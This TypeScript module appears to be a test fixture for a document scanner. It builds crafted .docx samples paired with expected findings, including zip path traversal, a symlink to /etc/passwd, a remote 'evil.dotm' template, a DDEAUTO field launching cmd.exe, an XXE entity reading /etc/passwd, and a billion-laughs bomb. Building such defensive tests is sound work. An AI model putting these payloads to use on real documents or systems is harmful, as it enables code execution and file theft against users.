import { strToU8, unzipSync, zipSync } from 'fflate';
import type { Zippable } from 'fflate';
import type { Hostile } from './hostile.ts';
import { bytes, fixture } from './hostile-parts.ts';
import { oleFile } from './ole.ts';

/** Letters in .docx made to do harm. */
export function hostileLetters(address: string, canary: string): readonly Hostile[] {
  const body = (inner: string): string =>
    `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body>${inner}<w:p><w:r><w:t>Synthetic ${canary}</w:t></w:r></w:p></w:body></w:document>`;
  const docx = (more: Zippable, inner = ''): Uint8Array =>
    zipSync({ ...unzipSync(fixture('letter.docx')), 'word/document.xml': strToU8(body(inner)), ...more });
  const relations = (...rows: string[]): Uint8Array =>
    strToU8(
      `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rows.join('')}</Relationships>`,
    );
  const relation = (type: string, target: string, mode = 'External'): string =>
    `<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/>`;
  const picture = `<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:9pt;height:9pt"><v:imagedata r:id="rId9"/></v:shape></w:pict></w:r></w:p>`;
  const field = `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "${address}/field.png" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

  return [
    {
      what: 'a letter named like a photograph',
      name: 'me.jpg',
      file: docx({}),
      state: 'viewable',
      recognised: 'docx',
      finds: ['name differs'],
    },
    {
      what: 'a letter with entries that would write elsewhere',
      name: 'slip.docx',
      file: docx({ '/tmp/absolute.xml': strToU8('<a/>'), '../up.xml': strToU8('<a/>') }),
      state: 'viewable',
      recognised: 'docx',
      finds: ['unsafe entry name'],
    },
    {
      what: 'a letter with a link inside',
      name: 'link.docx',
      file: docx({ 'word/link': [strToU8('/etc/passwd'), { os: 3, attrs: 0o120777 << 16 }] }),
      state: 'viewable',
      finds: ['symbolic link'],
    },
    {
      what: 'a letter with a program',
      name: 'macro.docm',
      file: docx({ 'word/vbaProject.bin': oleFile({ VBA: { dir: bytes('x') } }) }),
      state: 'viewable',
      finds: ['macros'],
    },
    {
      what: 'a letter with a template elsewhere',
      name: 'template.docx',
      file: docx({
        'word/_rels/settings.xml.rels': relations(relation('attachedTemplate', `${address}/evil.dotm`)),
      }),
      state: 'viewable',
      finds: ['external template'],
    },
    {
      what: 'a letter with a picture elsewhere',
      name: 'picture.docx',
      file: docx(
        { 'word/_rels/document.xml.rels': relations(relation('image', `${address}/picture.png`)) },
        picture,
      ),
      state: 'viewable',
      finds: ['external link'],
    },
    {
      what: 'a letter with a picture on a share',
      name: 'share.docx',
      file: docx(
        {
          'word/_rels/document.xml.rels': relations(
            relation('image', String.raw`\\127.0.0.1\share\picture.png`),
          ),
        },
        picture,
      ),
      state: 'viewable',
      finds: ['external link'],
    },
    {
      what: 'a letter with a field that fetches',
      name: 'field.docx',
      file: docx({}, field),
      state: 'viewable',
      finds: ['field'],
    },
    {
      what: 'a letter with a field that runs a program',
      name: 'dde.docx',
      file: docx(
        {},
        '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"/></w:p>',
      ),
      state: 'viewable',
      finds: ['field'],
    },
    {
      what: 'a letter with an object inside',
      name: 'object.docx',
      file: docx({ 'word/embeddings/oleObject1.bin': oleFile({ '\u0001Ole10Native': bytes(canary) }) }),
      state: 'viewable',
      finds: ['embedded object'],
    },
    {
      what: 'a letter of a billion laughs',
      name: 'laughs.docx',
      file: docx({
        'word/document.xml': strToU8(
          `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "${'ha'.repeat(100)}"><!ENTITY b "${'&a;'.repeat(100)}"><!ENTITY c "${'&b;'.repeat(100)}">]><a>&c;</a>`,
        ),
      }),
      state: 'unviewable',
      reason: 'entities',
    },
    {
      what: 'a letter with an entity from a file, in UTF-16',
      name: 'xxe.docx',
      file: docx({
        'word/document.xml': Buffer.from(
          `\ufeff<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a SYSTEM "${address}/a.dtd" [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`,
          'utf16le',
        ),
      }),
      state: 'unviewable',
      reason: 'entities',
    },
    {
      what: 'a letter nested 100,000 deep',
      name: 'deep.docx',
      file: docx({ 'word/document.xml': strToU8(body('<w:p>'.repeat(100_000) + '</w:p>'.repeat(100_000))) }),
      state: 'any',
      recognised: 'docx',
    },
    {
      what: 'a letter without its text',
      name: 'hollow.docx',
      file: zipSync({ '[Content_Types].xml': strToU8('<Types/>'), 'word/a.xml': strToU8('<a/>') }),
      state: 'unviewable',
      reason: 'damaged',
    },
    {
      what: 'a letter with a password',
      name: 'locked.docx',
      file: oleFile({ EncryptedPackage: Buffer.alloc(5000, 7), EncryptionInfo: bytes('x') }),
      state: 'unviewable',
      reason: 'locked',
    },
  ];
}
